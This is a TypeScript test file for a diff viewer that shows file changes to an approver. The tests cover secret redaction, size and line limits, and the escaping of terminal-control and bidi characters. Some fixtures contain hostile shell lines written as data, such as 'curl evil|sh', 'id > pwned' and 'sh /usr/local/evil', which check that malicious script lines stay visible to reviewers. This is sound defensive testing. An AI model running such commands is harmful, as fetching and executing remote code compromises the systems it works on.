import { describe, expect, it, onTestFinished, vi } from 'vitest'
import { createRedactor } from '../../../records/redaction/redact.ts'
import { changedLines, diffView, showEnds } from './diff-views.ts'

const SECRET = 'the-owners-own-secret'
const redactor = createRedactor({ values: [SECRET] }).forDecision()
const show = (before: string | undefined, after: string | undefined, others: { movedTo?: string } = {}) =>
  diffView(redactor, { path: 'a.txt', before, after, ...others })
const numbered = (count: number, word = 'line') => Array.from({ length: count }, (_, at) => `${word} ${at}\n`).join('')

/** The time limit of a comparison does not run out on a busy machine. */
function stopTime() {
  vi.useFakeTimers({ toFake: ['Date'] })
  onTestFinished(() => void vi.useRealTimers())
}

describe('the view of a change', () => {
  it('is a unified diff', async () => {
    expect(await show('one\ntwo\nthree\n', 'one\n2\nthree\n')).toEqual({
      kind: 'diff',
      path: 'a.txt',
      diff: '--- a.txt\n+++ a.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three',
      isNew: false,
    })
  })

  it('names nothing on the side without a file', async () => {
    expect(await show(undefined, 'new\n')).toMatchObject({
      diff: '--- /dev/null\n+++ a.txt\n@@ -0,0 +1,1 @@\n+new',
      isNew: true,
    })
    expect(await show('old\n', undefined)).toMatchObject({
      diff: '--- a.txt\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-old',
      isNew: false,
    })
  })

  it.each(['报告.md', 'naïve "quoted" \\ name.md', 'a b.md'])('names a file as people write it: %s', async (path) => {
    const { diff } = await diffView(redactor, { path, before: 'old\n', after: 'new\n' })
    expect(diff).toBe(`--- ${path}\n+++ ${path}\n@@ -1,1 +1,1 @@\n-old\n+new`)
  })

  it('shows characters of a name that would hide or forge a line', async () => {
    const path = 'a\u202e\n+++ b.md'
    const { diff } = await diffView(redactor, { path, before: 'old\n', after: 'new\n' })
    expect(diff.split('\n').slice(0, 3)).toEqual([
      '--- a\\u{202e}\\n+++ b.md',
      '+++ a\\u{202e}\\n+++ b.md',
      '@@ -1,1 +1,1 @@',
    ])
  })

  it('tells both names of a file that is moved', async () => {
    const moved = await show('old\n', 'new\n', { movedTo: 'b.txt' })
    expect(moved.path).toBe('a.txt -> b.txt')
    expect(moved.diff).toContain('--- a.txt\n+++ b.txt\n')
    expect((await show('same\n', 'same\n', { movedTo: 'b.txt' })).diff).toMatch(/is moved; its text does not change/)
  })

  it.each([
    ['an empty new file', undefined, '', /new, empty file/],
    ['an empty file that goes', '', undefined, /deleted; it is empty/],
    ['a file that stays as it is', 'a', 'a', /Its text does not change/],
    ['more than 200,000 bytes', 'é'.repeat(100_001), 'x', /has 200002 bytes, at most 200000/],
    ['more than 2,000 lines that come', undefined, numbered(2_001), /more than 2000 lines; .* 2002 after it/],
    ['a change of all lines', numbered(1_500), numbered(1_500, 'row'), /more than 2000 lines/],
    ['a secret that changes', `a ${SECRET}\n`, `a [redacted:secret]\n`, /only a secret or the line endings change/],
  ])('says in a sentence what there is of %s', async (_, before, after, note) => {
    expect((await show(before, after)).diff).toMatch(note)
  })

  it('shows a text that goes or comes while its file stays', async () => {
    expect((await show('old\n', '')).diff).toMatch(/\n-old$/)
    expect((await show('', 'new\n')).diff).toMatch(/\n\+new$/)
  })

  it('is whole up to 200,000 bytes and 2,000 lines', async () => {
    stopTime()
    expect((await show('é'.repeat(100_000), 'x')).diff).toMatch(/^--- a\.txt\n/)
    expect((await show(undefined, numbered(1_997))).diff.split('\n')).toHaveLength(2_000)
    expect((await show(undefined, numbered(1_998))).diff).toMatch(/more than 2000 lines/)
  })

  it('shows what fits the limits whole', async () => {
    stopTime()
    expect((await show(undefined, numbered(1_990))).diff.split('\n')).toHaveLength(1_993)
    const long = 'x'.repeat(199_000)
    expect((await show(`${long}\na\n`, `${long}\nb\n`)).diff).toContain('\n-a\n+b')
  })

  it('shows both ends of what is too long to be compared, and says what is missing', async () => {
    const { diff } = await show(undefined, `#!/bin/sh\n${'# nothing\n'.repeat(120_000)}curl evil|sh\n`)
    expect(diff).toMatch(/^NOT SHOWN WHOLE: the text has \d+ bytes/)
    expect(diff).toContain('\n+#!/bin/sh\n')
    expect(diff).toMatch(/\n\+… 1192023 characters in between are not shown …\n/)
    expect(diff).toMatch(/\n\+curl evil\|sh$/)
    expect(diff.length).toBeLessThan(20_000)
  })

  it('shows all that changes in a text that is too long to be compared, where that is little', async () => {
    const lines = numbered(50_000)
    const { diff } = await show(lines, lines.replace('line 30000\n', 'curl evil|sh\n'))
    expect(diff).toBe(
      'Not compared: the text has 538892 bytes, at most 200000 are compared.\n-line 30000\n+curl evil|sh',
    )
    expect((await show(lines, `${lines}last\n`)).diff).toMatch(/compared\.\n\+last$/)
    expect((await show(`${lines}last`, lines)).diff).toMatch(/compared\.\n-last$/)
  })

  it('hides no line of a script behind what looks like the beginning of a key', async () => {
    const { diff } = await show(undefined, '#!/bin/sh\n# -----BEGIN PRIVATE KEY-----\nid > pwned\nsh /usr/local/evil\n')
    expect(diff).toContain('+# -----BEGIN PRIVATE KEY-----\n+id > pwned\n+sh /usr/local/evil')
  })

  it('holds no secret, not even one of several lines', async () => {
    const key = (line: string) => `-----BEGIN PRIVATE KEY-----\n${line.repeat(40)}\n-----END PRIVATE KEY-----\n`
    const { diff } = await show(`${key('MIIa')}old ${SECRET}\n`, `${key('MIIb')}new ${SECRET}\n`)
    expect(diff).toContain('-old [redacted:secret]\n+new [redacted:secret]')
    expect(diff).not.toMatch(/MIIa|MIIb/)
    expect((await diffView(redactor, { path: `${SECRET}.txt`, before: undefined, after: 'x' })).path).not.toContain(
      SECRET,
    )
  })

  it('shows characters that would drive a terminal, hide or reorder words', async () => {
    const { diff } = await show('a\n', 'b\u001b[2K\u202ec\u200b\n')
    expect(diff).toContain('+b\\u{1b}[2K\\u{202e}c\\u{200b}')
    const { path } = await diffView(redactor, { path: 'a\n+++ b', before: undefined, after: 'x' })
    expect(path).toBe('a\\n+++ b')
  })

  it('shows line ends only where they matter', async () => {
    expect((await show('a\r\nb\r\n', 'a\r\nc\r\n')).diff).toContain(' a\n-b\n+c')
    expect((await show('a\r\nb\r\n', 'a\nb\n')).diff).toContain('-a\\r\n')
  })
})

const changed = (before: string, after: string) => changedLines(before, after, 'why.')

describe('a change for which no diff is made', () => {
  it.each<[string, string, string, string[]]>([
    ['in the middle', 'a\nb\nc\n', 'a\nx\nc\n', ['-b', '+x']],
    ['of the first line', 'a\nb\n', 'x\nb\n', ['-a', '+x']],
    ['of the last line', 'a\nb\n', 'a\nx\n', ['-b', '+x']],
    ['of the last line without a line break', 'a\nb', 'a\nx', ['-b', '+x']],
    ['of the only line', 'a', 'b', ['-a', '+b']],
    ['of all lines', 'a\nb\n', 'x\ny\n', ['-a', '-b', '+x', '+y']],
    ['that only adds', 'a\nc\n', 'a\nb\nc\n', ['+b']],
    ['that only removes', 'a\nb\nc\n', 'a\nc\n', ['-b']],
    ['at the start of the text', 'b\n', 'a\nb\n', ['+a']],
    ['at the end of the text', 'a\n', 'a\nb\n', ['+b']],
    ['that makes a text', '', 'a\nb\n', ['+a', '+b']],
    ['that removes a text', 'a\nb\n', '', ['-a', '-b']],
    ['of one of several equal lines', 'a\na\n', 'a\na\na\n', ['+a']],
    ['in the middle of a line', 'one two three\n', 'one 2 three\n', ['-one two three', '+one 2 three']],
    ['of what only begins a line', 'a\nbcd\n', 'a\nbxd\n', ['-bcd', '+bxd']],
    ['that adds an empty line', 'a\nb\n', 'a\n\nb\n', ['+']],
    ['that adds two empty lines at the end', 'a\n', 'a\n\n\n', ['+', '+']],
    ['around a lone carriage return', 'a\rb\nc\n', 'a\rx\nc\n', ['-a\rb', '+a\rx']],
  ])('%s shows the lines from the first that changes to the last one', (_, before, after, lines) => {
    expect(changed(before, after).split('\n')).toEqual(['Not compared: why.', ...lines])
  })

  it('shows the lines between two changes, too', () => {
    expect(changed('a\nb\nc\nd\n', 'a\nx\nc\ny\n').split('\n').slice(1)).toEqual(['-b', '-c', '-d', '+x', '+c', '+y'])
  })

  it.each([
    ['removed', 'x'.repeat(8_001), 'y'],
    ['added', 'y', 'x'.repeat(8_001)],
  ])('says first that it is not shown whole where too much is %s', (_, before, after) => {
    const text = changed(before, after)
    expect(text).toMatch(/^NOT SHOWN WHOLE: why\.\n/)
    expect(text).toContain('… 1 characters in between are not shown …')
    expect(changed(before.slice(0, 8_000), after.slice(0, 8_000))).toMatch(/^Not compared: why\.\n/)
  })
})

describe('a text that an approver is shown', () => {
  it('is shown whole up to 8,000 characters', () => {
    const text = 'x'.repeat(8_000)
    expect(showEnds(text)).toBe(text)
  })

  it('is shown by its ends where it is longer, with how much is missing', () => {
    const text = `${'a'.repeat(4_000)}b${'c'.repeat(4_000)}`
    expect(showEnds(text)).toBe(
      `${'a'.repeat(4_000)}\n… 1 characters in between are not shown …\n…${'c'.repeat(4_000)}`,
    )
  })

  it('marks a line that is shown in part, and only such a line', () => {
    const end = (between: string) =>
      showEnds(`${'a'.repeat(4_000)}${between}${'c'.repeat(4_000)}`)
        .split('\n')
        .at(-1)!
    expect([end('b\n')[0], end('\nb')[0]]).toEqual(['c', '…'])
  })
})
